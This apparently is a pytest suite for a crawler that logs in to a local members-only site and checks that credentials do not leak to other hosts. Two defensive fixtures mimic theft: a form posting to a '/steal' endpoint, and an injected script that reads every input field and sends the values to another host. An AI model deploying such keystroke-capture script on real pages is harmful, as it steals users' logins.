"""Crawls of a site for members only, by a real browser, in each way to show who one is."""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from aiohttp import web
from pydantic import SecretStr
from sites.members import server
from sites.members.pages import ACCOUNT, ECHO, LOGOUTS, login_form
from sites.members.server import Members
from sites.serving import serve

from bughive_crds.crawl_session import CrawlSessionSpec, Outcome
from bughive_protocol.artifact_settings import ArtifactSettings
from bughive_protocol.artifact_store import ArtifactStore
from bughive_protocol.errors import InvalidSpec, LoginFailed
from bughive_worker.cli.local_crawl import crawl_here
from bughive_worker.crawl.job import CrawlEnd, CrawlJob
from bughive_worker.crawl.loop import crawl
from bughive_worker.login import login
from bughive_worker.login.redaction import forms_of

SECRETS = {
    "Basic": {"username": "ada", "password": "pa ss/w0rd+&\"'<é"},
    "Bearer": {"token": "b3arer-t0ken-73829"},
    "Cookie": {"cookie": "theme=dark; member=c00kie-0f-ada-4711"},
    "Header": {"name": "X-Api-Key", "value": "h34der-v4lue-1815"},
    "Form": {"username": "ada@lovelace.example", "password": 'f0rm+p4ss/w0rd&"é'},
}
KINDS = sorted(SECRETS)


class Elsewhere(Members):
    """Another site, which lets everybody in."""

    def _knows(self, _):
        return True


@pytest_asyncio.fixture(loop_scope="module")
async def elsewhere() -> AsyncIterator[Members]:
    site = Elsewhere("None", {})
    running = await server.start(site, "127.0.0.2")
    site.elsewhere = running.url
    yield site
    await running.close()


@pytest_asyncio.fixture(loop_scope="module")
async def members(elsewhere):
    """Starts the site: ``await members("Form")`` gives it and its URL."""
    opened = []

    async def start(kind: str, **options) -> tuple[Members, str]:
        site = Members(kind, SECRETS[kind], elsewhere.elsewhere, **options)
        opened.append(await server.start(site))
        return site, opened[-1].url

    yield start
    for running in opened:
        await running.close()


@pytest.fixture
def a_login(engine, crawl_of):
    """A crawl that logs in; ``secret`` in place of the right one."""

    def make(kind: str, url: str, secret: dict[str, str] | None = None, **auth):
        one = crawl_of(engine, f"{url}/", respect_robots_txt=True)
        given = {"type": kind, "secretRef": {"name": "login"}, **auth}
        one.spec = CrawlSessionSpec.model_validate({**one.spec.model_dump(by_alias=True), "auth": given})
        values = {key: SecretStr(value) for key, value in (secret or SECRETS[kind]).items()}

        async def read(name: str):
            assert name == "login"
            return values

        async def run() -> CrawlEnd:
            job = CrawlJob("uid", "ns", "name", one.spec, read)
            return await crawl(job, one.stores, one.engine, one.stop)

        one.run, one.read = run, read
        return one

    return make


@pytest.mark.parametrize("kind", KINDS)
async def test_members_pages_are_crawled_and_bugs_found_in_them(members, a_login, kind):
    site, url = await members(kind)
    one = a_login(kind, url)

    assert await one.run() is CrawlEnd.COMPLETE

    assert {path: one.pages()[path] for path in ("/", ACCOUNT, "/orders")} == dict.fromkeys(
        ("/", ACCOUNT, "/orders"), "Loaded"
    )
    assert one.found("uncaught-exception") >= {f"{url}{ACCOUNT}"}
    assert site.logouts == 0
    assert not site.paths() & set(LOGOUTS)
    assert one.memory.left_out.keys() == {f"{url}{path}" for path in LOGOUTS}
    # Link checks carry the login too: what is missing is found missing, not behind the door.
    assert "/gone" in {page.removeprefix(url) for page in one.found("broken-link")} or one.pages()["/gone"] == "Loaded"


@pytest.mark.parametrize("kind", KINDS)
async def test_nothing_of_the_login_goes_to_another_site(members, a_login, elsewhere, kind):
    site, url = await members(kind)
    await a_login(kind, url).run()

    assert elsewhere.paths() >= {"/partner", "/ad.gif", "/away", "/away.gif"}
    told = elsewhere.sent().lower()
    known = [*SECRETS[kind].values(), *(one.removeprefix("sid=") for one in site.sessions)]
    if kind == "Basic":
        known.append(f"{SECRETS[kind]['username']}:{SECRETS[kind]['password']}")
    for secret in known:
        for form in forms_of(secret):
            assert form.lower() not in told
    assert "authorization" not in told
    assert "cookie" not in told
    assert "x-api-key" not in told


@pytest.mark.parametrize("kind", KINDS)
async def test_what_the_site_echoes_of_a_secret_is_recorded_nowhere(members, a_login, kind):
    site, url = await members(kind)
    one = a_login(kind, url)
    await one.run()

    assert one.pages()[ECHO] == "Loaded"
    assert f"{url}{ECHO}" in one.found("uncaught-exception")
    memory = one.memory
    kept = repr([vars(memory) if hasattr(memory, "__dict__") else memory])
    assert "planted behind the login" in kept
    secret = [value for key, value in SECRETS[kind].items() if key not in ("username", "name")]
    if kind == "Cookie":
        secret = ["c00kie-0f-ada-4711"]
    for each in [*secret, *site.sessions]:
        for form in forms_of(each):
            assert form not in kept, form


@pytest.mark.parametrize("kind", KINDS)
async def test_with_a_wrong_secret_the_crawl_ends_before_it_began(members, a_login, kind):
    _, url = await members(kind)
    wrong = {key: value if key == "name" else f"{value}x" for key, value in SECRETS[kind].items()}
    one = a_login(kind, url, wrong, loginURL=f"{url}/login")

    with pytest.raises(LoginFailed) as failed:
        await one.run()

    assert one.pages() == {}
    told = str(failed.value)
    assert not any(value in told for key, value in wrong.items() if key not in ("name", "username"))


@pytest.mark.parametrize("kind", KINDS)
async def test_the_second_look_at_a_page_is_a_members_too(members, a_login, kind):
    site, url = await members(kind)
    one = a_login(kind, url)
    await one.run()
    assert site.flaky == 0
    flaky = next(page for page in one.memory.results.values() if page.url == f"{url}/flaky")
    assert (flaky.end, flaky.status, flaky.title) == ("Loaded", 200, "Flaky")


async def test_a_crawl_without_a_cluster_takes_the_login_from_the_environment(members, tmp_path, monkeypatch):
    site, url = await members("Form")
    for key, value in SECRETS["Form"].items():
        monkeypatch.setenv(f"BUGHIVE_SECRET_SHOP_LOGIN_{key.upper()}", value)
    auth = {"type": "Form", "secretRef": {"name": "shop-login"}}
    spec = CrawlSessionSpec.model_validate({"url": f"{url}/", "auth": auth, "browser": {"requestsPerSecond": 1000}})
    store = ArtifactStore(ArtifactSettings(artifact_url=tmp_path.as_uri()), make=True)

    assert await crawl_here(spec, store) is Outcome.BUGS_FOUND

    assert site.logins == 1
    report = (tmp_path / "report.json").read_text()
    assert f"{url}{ACCOUNT}" in report
    assert SECRETS["Form"]["password"] not in report


async def test_a_form_is_found_by_itself_also_where_it_asks_for_the_name_first(members, a_login):
    site, url = await members("Form", two_steps=True)
    one = a_login("Form", url)
    await one.run()
    assert site.logins == 1
    assert one.pages()[ACCOUNT] == "Loaded"


async def test_the_forms_parts_can_be_named(members, a_login):
    site, url = await members("Form")
    parts = {
        "username": "input[name=username]",
        "password": "input[name=password]",
        "submit": "form[method=post] button",
    }
    await a_login("Form", url, loginURL=f"{url}/login", form=parts, check={"selector": "#inside"}).run()
    assert site.logins == 1


async def test_a_form_that_sends_to_another_site_gets_nothing(members, a_login, elsewhere):
    site, url = await members("Form", form_action=f"{elsewhere.elsewhere}/steal")
    with pytest.raises(LoginFailed, match="not one of the site's own hosts: nothing was sent"):
        await a_login("Form", url).run()
    assert SECRETS["Form"]["username"] not in elsewhere.sent() + site.sent()


class Astray(Members):
    """Its login page leads to a form elsewhere, which sends to the site itself."""

    async def _login(self, request):
        if request.method == "POST":
            return await super()._login(request)
        return web.Response(status=302, headers={"Location": f"{self.elsewhere}/form"})


async def test_a_form_of_another_site_that_sends_to_the_sites_own_gets_nothing(a_login):
    typed: list[str] = []
    site = Astray("Form", SECRETS["Form"])
    own = await server.start(site)

    async def form(request: web.Request) -> web.Response:
        typed.append(request.path_qs)
        told = "setInterval(() => fetch('/typed?' + [...document.querySelectorAll('input')].map((e) => e.value)), 50)"
        text = f"{login_form('t', wrong=False, action=f'{own.url}/login')}<script>{told}</script>"
        return web.Response(text=text, content_type="text/html")

    other = await serve(form, "127.0.0.2")
    site.elsewhere = other.url
    with pytest.raises(LoginFailed, match="is not one of the site's own hosts, and would read what is typed"):
        await a_login("Form", own.url, loginURL=f"{own.url}/login").run()
    await own.close()
    await other.close()
    assert "/form" in typed
    assert "lovelace" not in "".join(typed)


async def test_a_login_page_on_another_site_is_refused(members, a_login, elsewhere):
    _, url = await members("Form")
    with pytest.raises(InvalidSpec, match=r"spec.auth.loginURL is not on one of the site's own hosts"):
        await a_login("Form", url, loginURL=f"{elsewhere.elsewhere}/login").run()


@pytest.mark.parametrize(
    ("check", "told"),
    [({"text": "Nobody says this"}, "does not show the text"), ({"selector": "#nothing"}, "does not have #nothing")],
)
async def test_a_check_that_fails_says_what_it_did_not_see(members, a_login, monkeypatch, check, told):
    monkeypatch.setattr("bughive_worker.login.check._APPEAR_SECONDS", 0.3)
    _, url = await members("Basic")
    with pytest.raises(LoginFailed, match=told):
        await a_login("Basic", url, check=check).run()


async def test_a_login_that_is_lost_in_mid_crawl_is_made_again_and_no_page_is_missed(members, a_login, monkeypatch):
    monkeypatch.setattr(login, "_FRESH_SECONDS", 0)
    site, url = await members("Form")
    one = a_login("Form", url)
    begun: list[str] = []

    def on_page(page: str) -> None:
        begun.append(page)
        if len(begun) == 2:
            site.expire()

    job = CrawlJob("uid", "ns", "name", one.spec, one.read)
    await crawl(job, one.stores, one.engine, one.stop, on_page)

    assert site.logins == 2
    assert {one.pages()[path] for path in ("/", ACCOUNT, "/orders", ECHO)} == {"Loaded"}


async def test_a_site_that_throws_out_again_and_again_ends_the_crawl(members, a_login, monkeypatch):
    monkeypatch.setattr(login, "_FRESH_SECONDS", 0)
    site, url = await members("Form")
    site.short_lived = True
    with pytest.raises(LoginFailed):
        await a_login("Form", url, loginURL=f"{url}/login").run()
    assert 1 <= site.logins <= 5
